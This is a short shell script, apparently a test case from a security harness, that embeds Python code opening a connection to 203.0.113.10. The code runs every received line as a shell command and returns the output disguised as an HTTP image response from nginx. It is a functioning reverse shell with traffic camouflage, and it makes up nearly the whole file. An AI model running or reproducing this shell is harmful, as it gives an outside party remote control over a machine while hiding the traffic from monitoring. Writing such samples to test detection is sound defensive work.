#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import socket, subprocess
s = socket.create_connection(("203.0.113.10", 443))
f = s.makefile("w")
for line in s.makefile("r"):
    if line.strip() == "exit": break
    r = subprocess.run(line, shell=True, capture_output=True, text=True).stdout
    f.write(f"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: image/png\r\nContent-Length: {len(r)}\r\n\r\n{r}"); f.flush()
END
test -e /tmp/reached
took_place
